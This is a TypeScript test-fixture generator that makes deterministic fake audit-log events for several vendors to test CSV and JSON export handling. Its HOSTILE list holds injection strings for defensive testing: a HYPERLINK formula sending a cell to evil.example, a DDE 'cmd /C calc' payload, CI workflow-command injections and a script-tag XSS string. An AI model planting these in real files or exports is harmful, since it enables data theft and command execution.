/**
 * The truth behind the sandbox: events made up from a seed, so that a test knows what a vendor holds.
 * No clock and no `Math.random`: the same arguments give the same bytes.
 */

export type VendorId = 'kosli' | 'infisical' | 'datafold' | 'aitronos' | 'codacy';

/** One event as its vendor holds it. */
export interface LedgerEvent {
  /** Milliseconds since 1970; a fraction where the vendor keeps microseconds (Kosli, Datafold). */
  readonly time: number;
  /**
   * The vendor's own fields in documented order. CSV vendors have text only, under their column names.
   * Integers beyond 2^53 are bigints; `jsonOf` writes them digit for digit.
   */
  readonly fields: Readonly<Record<string, unknown>>;
  /** Values that filters compare and the answer does not show: an environment, flows (comma list), ids. */
  readonly hidden: Readonly<Record<string, string>>;
}

export interface LedgerOptions {
  readonly vendor: VendorId;
  readonly seed: number;
  /** How many events lie inside the window. */
  readonly events: number;
  /** Half open, in milliseconds since 1970. */
  readonly window: { readonly from: number; readonly to: number };
  /** How many events lie around the window: just before `from`, exactly at `to`, further off. Defaults to 6. */
  readonly outside?: number;
  /** How many events in the middle fall on one and the same instant. Defaults to none. */
  readonly burst?: number;
}

/** Text that breaks naive CSV writers, log readers and spreadsheets; the free-text fields go through all of it. */
export const HOSTILE: readonly string[] = [
  'a, comma',
  'a "quoted" word',
  'two\r\nlines',
  'bare\nline feed',
  'bare\rcarriage return',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '-2+3',
  '::error::not a command',
  'text\n::add-mask::x',
  '##[error]not a command either',
  '<script>alert("x")</script>',
  '  spaces on both sides  ',
  'back\\slash \\n \\"',
  'Zürich ünïcödé 東京 🦊👩‍👩‍👧',
  '\u202Eright to left\u202C עברית العربية',
  'tab\tand line separator \u2028',
  '"',
  '""',
  ',',
  '| `code` | **bold** |',
];

export const KOSLI_COLUMNS: readonly string[] = [
  'type',
  'environment_name',
  'snapshot_index',
  'artifact_name',
  'sha256',
  'description',
  'reported_at',
  'flows',
  'artifact_compliance',
  'snapshot_compliance',
  'code_diff',
];

/** Environments of Kosli's events; `old-server` is the archived one. */
const KOSLI_PHYSICAL: readonly string[] = ['prod-k8s', 'prod-ecs', 'staging.eu-1', 'old-server'];

export const AITRONOS_ENTITY_TYPES: readonly string[] = [
  'user',
  'department',
  'role',
  'role_assignment',
  'department_membership',
  'permission',
  'knowledge_slice',
  'vector_store',
  'knowledge_grant',
  'knowledge_composite',
];

/** The finest step of each vendor's clock, in microseconds. */
export const GRANULE: Readonly<Record<VendorId, number>> = {
  kosli: 1,
  infisical: 1000,
  datafold: 1,
  aitronos: 1_000_000,
  codacy: 1000,
};

/** Bound once: a global is slow to look up where a test runner gives a program globals of its own. */
const { floor, imul } = Math;

type Random = () => number;
interface EventSource {
  readonly random: Random;
  readonly index: number;
  /** Microseconds since 1970. */
  readonly micros: number;
}

/** mulberry32: a number in [0, 1) at each call. */
export function randomFrom(seed: number): Random {
  let state = seed | 0;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** Events sorted by time, ties in the order in which they were made. Throws where the window is empty. */
export function makeLedger(options: LedgerOptions): LedgerEvent[] {
  const random = randomFrom(options.seed);
  const make = GENERATORS[options.vendor];
  const hasIds = options.vendor === 'infisical' || options.vendor === 'datafold';
  const events: LedgerEvent[] = [];
  let copies = 0;
  for (const [index, micros] of instants(options, random).entries()) {
    const before = events.at(-1);
    const tied = before?.time === micros / 1000;
    if (before && tied && !hasIds && options.vendor !== 'kosli' && (copies === 0 || random() < 0.3)) {
      copies += 1;
      events.push({ ...before });
    } else {
      events.push({ time: micros / 1000, ...make({ random, index, micros }) });
    }
  }
  return events;
}

/** The events of `[from, to)`: what a complete export holds. */
export const inWindow = (events: readonly LedgerEvent[], window: { readonly from: number; readonly to: number }) =>
  events.filter((event) => event.time >= window.from && event.time < window.to);

/** JSON with bigints written digit for digit. */
export const jsonOf = (value: unknown): string =>
  JSON.stringify(value, (_name, inner: unknown) => (typeof inner === 'bigint' ? rawJSON(String(inner)) : inner));

/** One CSV line, quoted only where it has to be, with its line end. */
export const csvLine = (cells: readonly string[], lineEnd = '\r\n'): string =>
  cells.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',') + lineEnd;

/** TypeScript's es2024 library does not know `JSON.rawJSON` yet. */
const { rawJSON } = JSON as unknown as { rawJSON: (text: string) => unknown };

/** Sorted microseconds: ties at each border of pages of 20 counted from either end, then the strays around. */
function instants({ vendor, events, window, outside = 6, burst = 0 }: LedgerOptions, random: Random): number[] {
  const granule = GRANULE[vendor];
  const first = Math.ceil((window.from * 1000) / granule);
  const end = Math.ceil((window.to * 1000) / granule);
  if (first >= end) throw new RangeError('the window is empty');
  const within = Array.from({ length: events }, () => first + Math.floor(random() * (end - first)));
  within.sort((a, b) => a - b);
  if (events > 0) within[0] = first;
  if (events > 1) within[events - 1] = end - 1;
  const copy = (to: number, from: number) => {
    within[to] = within[from] ?? first;
  };
  for (let i = 2; i < events - 1; i += 1) if (i === 2 || i % 20 === 0 || (events - i) % 20 === 0) copy(i, i - 1);
  const middle = Math.max(0, Math.floor((events - burst) / 2));
  for (let i = middle + 1; i < Math.min(middle + burst, events); i += 1) copy(i, middle);

  const far = Math.ceil((2 * 86_400_000_000) / granule);
  const stray = [
    () => first - 1,
    () => end,
    () => end + 1,
    () => first - 1 - Math.floor(random() * far),
    () => end + Math.floor(random() * far),
  ];
  const strays = Array.from({ length: outside }, (_, i) => stray[i % stray.length]?.() ?? end);
  return [...within, ...strays].sort((a, b) => a - b).map((step) => step * granule);
}

type Body = Pick<LedgerEvent, 'fields' | 'hidden'>;

function kosli({ random, index, micros }: EventSource): Body {
  const environment = pick(random, KOSLI_PHYSICAL);
  const flows = pick(random, [['server'], ['web'], ['server', 'web'], []]);
  const repo = pick(random, ['acme/server', 'acme/web', 'acme/tools']);
  const cells = {
    type: pick(random, ['started', 'exited', 'changed', 'started', 'exited', 'updated-provenance']),
    environment_name: environment,
    snapshot_index: String(index + 1),
    artifact_name: `registry.example/${repo}:${hex(random, 7)}`,
    sha256: hex(random, 64),
    description: text(random, index),
    reported_at: floatSeconds(micros),
    flows: flows.join(', '),
    artifact_compliance: pick(random, ['True', 'False', '']),
    snapshot_compliance: pick(random, ['True', 'False', '']),
    code_diff: index % 4 === 0 ? `https://github.com/${repo}/compare/${hex(random, 7)}...${hex(random, 7)}` : '',
  };
  return { fields: cells, hidden: { environment, flows: flows.join(','), repo } };
}

function infisical({ random, index, micros }: EventSource): Body {
  const at = new Date(micros / 1000).toISOString();
  const project = pick(random, ['project-a', 'project-b', null]);
  const type = pick(random, [
    'get-secrets',
    'get-secret',
    'create-secret',
    'login-identity-universal-auth',
    'view-audit-logs',
  ]);
  const actor = pick<{ type: string; metadata?: unknown }>(random, [
    { type: 'user', metadata: { userId: 'user-1', email: 'ada@example.com', username: 'ada' } },
    { type: 'user', metadata: { userId: 'user-2', email: 'bob@example.com', username: text(random, index + 1) } },
    { type: 'identity', metadata: { identityId: 'identity-1', name: text(random, index + 2) } },
    { type: 'platform', metadata: null },
    { type: 'unknownUser' },
  ]);
  const metadata = {
    environment: pick(random, ['dev', 'prod']),
    secretPath: pick(random, ['/', '/app']),
    secretKey: pick(random, ['DB_URL', 'API_KEY']),
    secretComment: text(random, index),
    numberOfSecrets: index % 7 === 3 ? big(index) : index % 50,
    tags: [{ slug: 'x', nested: { deep: [1, null, true, text(random, index + 5)] } }],
  };
  const fields = {
    id: uuid(random),
    ipAddress: pick(random, ['203.0.113.7', '2001:db8::1', null]),
    userAgent: pick(random, ['Mozilla/5.0 (X11; Linux x86_64)', 'infisical-cli/0.41.0', null, text(random, index + 3)]),
    userAgentType: pick(random, ['web', 'cli', 'k8-operator', 'terraform', 'other', null]),
    expiresAt: index % 5 === 0 ? null : new Date(micros / 1000 + 90 * 86_400_000).toISOString(),
    createdAt: at,
    updatedAt: at,
    orgId: '7d4e2c1a-0b3f-4c5d-8e6f-1a2b3c4d5e6f',
    projectId: project,
    projectName: project === null ? null : text(random, index + 4),
    event: index % 17 === 0 ? { type } : { type, metadata: index % 11 === 0 ? null : metadata },
    actor,
  };
  return { fields, hidden: {} };
}

function datafold({ random, index, micros }: EventSource): Body {
  const required = {
    timestamp: pythonTime(micros),
    event_uuid: uuid(random),
    client_ip: pick(random, ['203.0.113.9', '2001:db8::2']),
    url: `https://app.datafold.com/api/v1/datadiffs/${index}?q=${encodeURIComponent(text(random, index + 1))}`,
  };
  if (index % 13 === 5) return { fields: required, hidden: {} };
  const fields = {
    action: pick(random, ['create', 'update', 'delete', null]),
    client_ip: required.client_ip,
    event_uuid: required.event_uuid,
    is_support_user: pick(random, [true, false, null]),
    log_entry: index % 6 === 4 ? null : text(random, index),
    object_id: index % 7 === 3 ? big(index) : index % 9 === 0 ? null : index,
    object_type: pick(random, ['datadiff', 'data_source', 'user', null]),
    payload:
      index % 5 === 2
        ? null
        : { name: text(random, index + 2), before: null, after: { ids: [big(index), 1.5], ok: true } },
    referer: pick(random, ['https://app.datafold.com/', null]),
    request_type: pick(random, ['GET', 'POST', null]),
    source: pick(random, ['ui', 'api', null]),
    status: pick(random, ['success', 'failure', null]),
    timestamp: required.timestamp,
    url: required.url,
    user_agent: pick(random, ['curl/8.5.0', text(random, index + 3), null]),
    user_email: pick(random, ['ada@example.com', 'bob@example.com', null]),
    user_id: index % 9 === 1 ? null : (index % 40) + 1,
  };
  return { fields, hidden: {} };
}

function aitronos({ random, index, micros }: EventSource): Body {
  const actor = pick(random, [
    ['usr_1', 'Ada Lovelace', 'ada@example.com'],
    ['usr_2', 'Bob "Bobby" Tables, Jr.', 'bob@example.com'],
    ['usr_3', '  Chloé  ', 'chloe@example.com'],
  ]);
  const target = pick(random, [
    ['usr_9', 'Zoë'],
    ['role_4', '=1+1'],
    ['', ''],
  ]);
  const cells = {
    Timestamp: new Date(micros / 1000).toISOString().replace('.000Z', 'Z'),
    'Entity Type': pick(random, AITRONOS_ENTITY_TYPES),
    'Entity Name': text(random, index),
    Action: pick(random, ['created', 'updated', 'deleted', 'invited', 'assigned', 'membership_added']),
    'Actor Name': actor[1] ?? '',
    'Actor Email': actor[2] ?? '',
    'Target Name': target[1] ?? '',
    'Previous Value': index % 3 === 1 ? '' : text(random, index + 1),
    'New Value': index % 4 === 1 ? '' : `{"limit":${big(index)},"note":${JSON.stringify(text(random, index + 2))}}`,
  };
  const department = pick(random, ['dep_1', 'dep_2', '']);
  return { fields: cells, hidden: { actor_id: actor[0] ?? '', target_id: target[0] ?? '', department_id: department } };
}

function codacy({ random, index, micros }: EventSource): Body {
  const email = pick(random, ['ada@example.com', 'bob@example.com', 'o"brien, x@example.com']);
  const fields = {
    actor: index % 3 === 0 ? { email } : { email, role: pick(random, ['repositoryAdmin', 'organizationAdmin']) },
    action: pick(random, [
      'organizations.gatepolicies.repositories.apply',
      'organizations.people.add',
      'repositories.delete',
    ]),
    result: pick(random, ['succeed', 'succeed', 'failed', 'rejected']),
    timestamp: new Date(micros / 1000).toISOString().replace(/\.?0*Z$/, 'Z'),
    ...(index % 5 === 0 ? {} : { source: pick(random, ['UI', 'API']) }),
    ...(index % 4 === 0 ? {} : { repositoryName: pick(random, ['server', 'web', '']) }),
    description: text(random, index),
    ...(index % 6 === 0 ? {} : { entityId: String(big(index)) }),
    ...(index % 7 === 0
      ? {}
      : { details: { link: [text(random, index + 1)], unlink: [], id: big(index), nested: { on: null } } }),
  };
  return { fields, hidden: {} };
}

const GENERATORS: Readonly<Record<VendorId, (seat: EventSource) => Body>> = {
  kosli,
  infisical,
  datafold,
  aitronos,
  codacy,
};

function pick<T>(random: Random, list: readonly T[]): T {
  return list[floor(random() * list.length)] as T;
}

/** Every third text is hostile, each kind in turn. */
function text(random: Random, index: number): string {
  if (index % 3 === 0) return HOSTILE[(index / 3) % HOSTILE.length] ?? '';
  return `${pick(random, ['Updated', 'Linked', 'Removed'])} ${pick(random, ['policy', 'secret', 'member'])} ${index}`;
}

/** An odd integer just beyond 2^53, which a double cannot hold. */
const big = (index: number): bigint => 9_007_199_254_740_993n + 2n * BigInt(index);

function hex(random: Random, digits: number): string {
  let text = '';
  for (let i = 0; i < digits; i += 1) text += '0123456789abcdef'[floor(random() * 16)];
  return text;
}

const uuid = (random: Random): string =>
  `${hex(random, 8)}-${hex(random, 4)}-4${hex(random, 3)}-a${hex(random, 3)}-${hex(random, 12)}`;

/** Writes seconds as Python prints a float: `1719638400.0`, `1719638400.123456`. */
export const floatSeconds = (micros: number): string => {
  const fraction = String(micros % 1_000_000)
    .padStart(6, '0')
    .replace(/0+$/, '');
  return `${Math.floor(micros / 1_000_000)}.${fraction || '0'}`;
};

/** Writes an instant as Python's `isoformat` prints a UTC time: six digits of fraction, or none. */
export const pythonTime = (micros: number): string => {
  const whole = new Date(Math.floor(micros / 1000)).toISOString().slice(0, 19);
  const fraction = micros % 1_000_000;
  return `${whole}${fraction === 0 ? '' : `.${String(fraction).padStart(6, '0')}`}+00:00`;
};
